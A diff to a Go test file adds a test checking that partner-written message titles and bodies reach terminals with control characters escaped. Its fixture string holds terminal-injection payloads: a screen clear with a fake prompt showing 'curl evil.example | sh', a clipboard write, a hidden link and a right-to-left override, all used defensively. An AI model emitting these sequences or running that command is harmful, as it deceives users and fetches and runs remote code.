@@ -259,3 +259,28 @@ func messageNames(messages []v1alpha1.CustomerMessage) []string {
 	}
 	return names
 }
+
+// TestPrintedTextCannotDriveTheTerminal: what partners write (titles, bodies,
+// display names) reaches members' terminals without escape sequences, carriage
+// returns or bidirectional overrides, shown instead as \uXXXX.
+func TestPrintedTextCannotDriveTheTerminal(t *testing.T) {
+	g := NewWithT(t)
+	hostile := "Maintenance\x1b[2J\x1b[H$ curl evil.example | sh\r" + // clear the screen, fake a prompt
+		"\x1b]52;c;ZXZpbA==\x07" + // set the clipboard
+		"\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\" + // a hidden link
+		"\u202egnp.exe\u009b31m" // a right-to-left override, a C1 CSI
+	m := &v1alpha1.CustomerMessage{
+		ObjectMeta: metav1.ObjectMeta{Name: "notice"},
+		Spec:       v1alpha1.CustomerMessageSpec{Customer: "acme", Title: hostile, Body: "line one\n\tindented\n" + hostile},
+	}
+	var out strings.Builder
+	printBody(&out, m)
+	printed := out.String() + oneLine(hostile, 200) + inline(hostile)
+	for _, r := range printed {
+		g.Expect(r == '\n' || r == '\t' || !unprintable(r)).To(BeTrue(), "printed %U in %q", r, printed)
+	}
+	g.Expect(printed).To(ContainSubstring(`\u001b]52;c;`), "shown, not obeyed")
+	g.Expect(printed).To(ContainSubstring(`\u202egnp.exe\u009b31m`))
+	g.Expect(out.String()).To(ContainSubstring("line one\n\tindented\n"), "the body keeps its lines")
+	g.Expect(printable("Grüße, 東京 — ok")).To(Equal("Grüße, 東京 — ok"), "text without controls is left alone")
+}
